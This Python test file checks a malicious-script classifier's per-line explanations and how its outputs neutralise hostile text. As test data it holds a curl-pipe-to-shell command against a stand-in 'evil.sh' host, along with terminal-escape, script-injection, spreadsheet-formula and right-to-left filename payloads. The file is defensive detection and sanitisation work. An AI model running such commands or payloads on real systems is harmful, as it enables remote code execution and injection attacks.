"""Per-line explanations (pipeline/explain.py): on a tiny model trained here on a planted signal (one line that alone
decides the label), the planted line must rank first and removing top lines must beat removing random ones; the
explanation explains predict's own score; truncated lines are flagged, not attributed; long scripts use windows in
few forward passes; every output format neutralises hostile line texts."""
from __future__ import annotations

import csv
import io
import json
import math
import random

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.explain import ClassifierScorer, explain_text, faithfulness, without
from pipeline.explain_render import render
from pipeline.model.classifier import THRESHOLD_FILE, Classifier
from pipeline.predict import predict
from pipeline.inputs.readers import ReaderLimits
from pipeline.run.records import write_json

from .conftest import TINY_CONFIG

MAX_LEN = 128
FILLER = ["x = 1", "print('hello')", "for i in range(3): pass", "import os", "y = x + 2", "# a comment",
          "def f(): return 0", "name = 'abc'", "z = [1, 2, 3]", "log.info('ok')"]
PLANT, DECOY = "os.system('curl evil.sh | sh')", "os.path.join('a', 'b')"  # the only difference between classes
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e")
HOSTILE = [PLANT, "# \x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[2J", "</script><script>alert(1)</script>",
           "=cmd|' /C calc'!A0", "[bold red]markup[/] [/]", "x = '\u202etxt.exe'"]


def planted_rows(n: int, seed: int) -> list[tuple[str, str, int]]:
    """(text, label, 0-based line of the planted/decoy line): filler lines around one deciding line."""
    rng = random.Random(seed)
    rows = []
    for i in range(n):
        malicious = i % 2 == 0
        lines = [rng.choice(FILLER) for _ in range(rng.randint(5, 9))]
        at = rng.randint(0, len(lines))
        lines.insert(at, PLANT if malicious else DECOY)
        rows.append(("\n".join(lines), "malicious" if malicious else "benign", at))
    return rows


@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> tuple[Classifier, str]:
    """A tiny StarCoder2 trained in ~10 s on the planted signal, and its saved classifier directory."""
    from .model_configs import train_tiny

    train = planted_rows(64, seed=0)
    out = tmp_path_factory.mktemp("planted")
    model, tokenizer = train_tiny([t for t, _, _ in train], [y for _, y, _ in train], "python", out, MAX_LEN, steps=60)
    path = Classifier.save(model, tokenizer, out / "clf", base_model=None, max_length=MAX_LEN, head_ratio=0.75)
    write_json(path / THRESHOLD_FILE, {"threshold": 0.5})
    return Classifier(model, tokenizer, MAX_LEN, 0.75, 0.5), str(path)


def test_the_planted_line_ranks_first_and_top_lines_beat_random_lines(planted):
    clf, _ = planted
    scorer = ClassifierScorer(clf)
    held_out = [r for r in planted_rows(16, seed=1) if r[1] == "malicious"]
    for text, _, at in held_out:
        e = explain_text(text, "python", scorer, 0.5)
        assert e.verdict == "malicious"
        assert e.lines[0].line == at + 1 and e.lines[0].text == PLANT
        assert e.lines[0].contribution > 0.5 > max(abs(u.contribution) for u in e.lines[1:])
        assert [u.contribution for u in e.lines] == sorted((u.contribution for u in e.lines), reverse=True)
    rows = faithfulness([t for t, _, _ in held_out], ["python"] * len(held_out), scorer, ks=(1, 3, 5))
    assert [r["k"] for r in rows] == [1, 3, 5] and all(r["n"] > 0 for r in rows)
    for r in rows:
        assert r["top_drop"] > 0.9 and r["top_drop"] > r["random_drop"]
    assert rows[0]["top_drop"] - rows[0]["random_drop"] > 0.5  # one random line is rarely the planted one


def test_the_explanation_explains_predicts_own_score(planted, tmp_path):
    clf, _ = planted
    text, _, _ = planted_rows(2, seed=2)[0]
    (tmp_path / "a.py").write_text(text)
    [p] = list(predict([str(tmp_path / "a.py")], clf, ReaderLimits(), explain_top=3))
    e = explain_text(text, "python", ClassifierScorer(clf), 0.5)
    assert p.score == pytest.approx(e.score, abs=1e-5) and p.verdict == e.verdict
    assert p.lines == [vars(u) for u in e.lines[:3]]
    lines = text.split("\n")
    for u in e.lines:  # a contribution is exactly the score drop predict would show without that line
        alone = clf.score([without(lines, {u.line - 1})], ["python"])[0]
        assert u.contribution == pytest.approx(e.score - alone, abs=1e-5)


def test_lines_cut_by_truncation_are_flagged_and_never_attributed(planted):
    clf, _ = planted
    short = Classifier(clf.model, clf.tokenizer, 72, 0.75, 0.5)  # room for a few lines only
    lines = [f"v{i} = {i} * 7" for i in range(40)]
    text = "\n".join(lines)
    e = explain_text(text, "python", ClassifierScorer(short), 0.5)
    unread = {n for a, b in e.unread for n in range(a, b + 1)}
    assert e.unread and 1 not in unread and 40 not in unread  # head and tail were read, the middle was cut
    assert not unread & {n for u in e.lines for n in range(u.line, u.line_end + 1)}
    for n in sorted(unread)[:: max(1, len(unread) // 5)]:  # removing a line the model never read changes nothing
        assert short.score([without(lines, {n - 1})], ["python"])[0] == pytest.approx(e.score, abs=1e-6)


def test_long_scripts_are_explained_by_windows_in_few_forward_passes(planted):
    clf, _ = planted
    clf = Classifier(clf.model, clf.tokenizer, 1024, 0.75, 0.5)  # room for the whole script (rotary positions)
    text = "\n".join(f"n{i} = {i}" for i in range(95))
    forwards = []
    hook = clf.model.register_forward_hook(lambda *a: forwards.append(1))
    try:
        e = explain_text(text, "python", ClassifierScorer(clf, batch_size=32), 0.5, max_units=10)
    finally:
        hook.remove()
    assert e.window == 10 and len(e.lines) == 10
    covered = sorted(n for u in e.lines for n in range(u.line, u.line_end + 1))
    assert covered == list(range(1, 96))
    assert len(forwards) == math.ceil((len(e.lines) + 1) / 32)  # one batched call: the script and its variants


def _sgpipe(*args, **kwargs):
    return CliRunner().invoke(app, [str(a) for a in args], env={"COLUMNS": "300"}, **kwargs)


def test_cli_explains_files_folders_and_stdin_and_predict_adds_top_lines(planted, tmp_path):
    _, clf_dir = planted
    rows = planted_rows(4, seed=3)
    folder = tmp_path / "in"
    folder.mkdir()
    for i, (text, _, _) in enumerate(rows[:2]):
        (folder / f"s{i}.py").write_text(text)
    (folder / "blob.bin").write_bytes(b"MZ\x00\x00binary")
    single = tmp_path / "one.py"
    single.write_text(rows[2][0])
    out = _sgpipe("explain", folder, single, "-", "--run-dir", clf_dir, "--config", TINY_CONFIG, "--format", "json",
                  "--top", "0", input=rows[0][0])
    assert out.exit_code == 0, out.output
    got = json.loads(out.stdout)
    assert [g["location"] for g in got][0] == "<stdin>" and len(got) == 5
    assert [g for g in got if g["error"]][0]["error"].startswith("binary")
    explained = [g for g in got if not g["error"]]
    for g in explained:
        assert g["verdict"] in ("malicious", "benign") and all(type(u["line"]) is int for u in g["lines"])
        assert [u["contribution"] for u in g["lines"]] == sorted((u["contribution"] for u in g["lines"]), reverse=True)
    assert explained[0]["lines"][0]["line"] == rows[0][2] + 1  # stdin: the planted line first
    page = tmp_path / "x.html"
    assert _sgpipe("explain", single, "-r", clf_dir, "--format", "html", "--out", page).exit_code == 0
    assert "<h2>" in page.read_text() and str(single) in page.read_text()
    jl = _sgpipe("predict", folder, "--model", clf_dir, "--format", "jsonl", "--explain", "2")
    assert jl.exit_code == 0, jl.output
    scored = [json.loads(line) for line in jl.stdout.splitlines() if '"error": null' in line]
    assert len(scored) == 2 and all(len(s["lines"]) == 2 for s in scored)
    plain = _sgpipe("predict", folder, "--model", clf_dir, "--format", "jsonl")
    assert all("lines" not in json.loads(line) for line in plain.stdout.splitlines())  # unchanged without --explain
    bad = _sgpipe("explain", single, "-r", clf_dir, "--format", "pdf")
    assert bad.exit_code == 2 and "--format" in bad.output


@pytest.mark.parametrize("fmt", ["terminal", "json", "jsonl", "html"])
def test_hostile_lines_are_neutralised_in_every_explain_format(planted, tmp_path, fmt):
    _, clf_dir = planted
    (tmp_path / "h.py").write_text("\n".join(HOSTILE))
    out = _sgpipe("explain", tmp_path / "h.py", "-r", clf_dir, "--format", fmt, "--top", "0")
    assert out.exit_code == 0, out.output
    text = out.stdout
    assert not [c for c in ESCAPES if c in text], repr(text)
    if fmt in ("json", "jsonl"):
        got = json.loads(text)
        lines = {u["line"]: u["text"] for u in (got[0] if fmt == "json" else got)["lines"]}
        assert lines[3] == HOSTILE[2] and lines[4] == HOSTILE[3] and lines[5] == HOSTILE[4]  # literal, unchanged
        assert lines[2].startswith("# \\x1b]8;;") and lines[6] == "x = '\\u202etxt.exe'"
    elif fmt == "html":
        assert "<script" not in text.lower() and "&lt;/script&gt;&lt;script&gt;alert(1)" in text
        assert "Content-Security-Policy" in text and "=cmd|&#x27; /C calc&#x27;!A0" in text
    else:
        assert "[bold red]markup[/] [/]" in text and "=cmd|' /C calc'!A0" in text  # markup shown, not applied


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_hostile_lines_are_neutralised_in_predict_explain(planted, tmp_path, fmt, monkeypatch):
    _, clf_dir = planted
    (tmp_path / "h.py").write_text("\n".join(reversed(HOSTILE)))  # the formula line first: it may lead a cell
    out = _sgpipe("predict", tmp_path / "h.py", "--model", clf_dir, "--format", fmt, "--explain", "6")
    assert out.exit_code == 0, out.output
    assert not [c for c in ESCAPES if c in out.stdout], repr(out.stdout)
    if fmt == "csv":
        [row] = list(csv.DictReader(io.StringIO(out.stdout)))
        assert row["top_lines"][:1] not in ("=", "+", "-", "@") and "=cmd|' /C calc'!A0" in row["top_lines"]
    elif fmt == "json":
        [row] = json.loads(out.stdout)
        assert HOSTILE[2] in [u["text"] for u in row["lines"]]


def test_render_rejects_unknown_formats():
    with pytest.raises(ValueError, match="terminal"):
        render([], "xml")


def test_report_highlights_worst_examples_and_writes_the_faithfulness_table(planted, tmp_path):
    """The report's explanation step on a run directory holding the planted classifier, then both renderings."""
    from types import SimpleNamespace

    from pipeline.config import load_config
    from pipeline.report import document
    from pipeline.stages import report

    _, clf_dir = planted
    run_dir = tmp_path / "run"
    (run_dir / "train").mkdir(parents=True)
    (run_dir / "train" / "classifier").symlink_to(clf_dir)
    cfg = load_config(None, overrides=["report.explain_lines=3", "report.faithfulness_scripts=50"])
    hostile = "\n".join(HOSTILE + ["```", "y = 2"])
    rows = planted_rows(12, seed=4)
    texts = {"fp": hostile, **{f"tp{i}": t for i, (t, y, _) in enumerate(rows) if y == "malicious"}}
    fp = {"id": "fp", "lang": "python", "source": "x/<b>", "score": 0.99, "label": "benign", "prediction": "malicious"}
    tps = [{"id": k, "lang": "python"} for k in texts if k.startswith("tp")]
    ctx = SimpleNamespace(config=cfg, run_dir=run_dir)
    explained, faithful, note = report._explanations(ctx, [fp], tps, texts, 0.5)
    assert note is None and len(explained["fp"].lines) == 3 and explained["fp"].lines[0].line == 1  # the plant
    assert [r["k"] for r in faithful] == [1, 3, 5] and faithful[0]["top_drop"] > faithful[0]["random_drop"] + 0.5

    inputs = report.Inputs(run_name="demo", metrics={}, manifests={}, history=[], conflicts=[], rejected=[],
                           false_positives=[{**fp, "text": hostile, "explanation": explained["fp"]}],
                           false_negatives=[], excerpt_chars=400, config_yaml="", plots={}, faithfulness=faithful)
    blocks = document._examples(inputs, "False positives", inputs.false_positives, "false positive")
    blocks += document._faithfulness(inputs)
    md, page = report.to_markdown(blocks), report.to_html(blocks, "t", {})
    assert f">> {explained['fp'].lines[0].contribution:+.3f} 1 | {PLANT}" in md  # the top line, marked in the gutter
    assert md.count("\n````\n") == 2  # the excerpt's own ``` cannot close its block
    assert f"| 1 | {faithful[0]['n']} | {faithful[0]['top_drop']:.3f} |" in md and "k random lines" in page
    assert "<mark" in page and "<script" not in page.lower() and "&lt;/script&gt;" in page
    listed = [u.text for u in explained["fp"].lines]  # the top-lines table shows neutralised texts
    assert not [c for c in ESCAPES for t in listed if c in t]
    off = load_config(None, overrides=["report.explain_lines=0", "report.faithfulness_scripts=0"])
    assert report._explanations(SimpleNamespace(config=off, run_dir=run_dir), [fp], tps, texts, 0.5)[2]
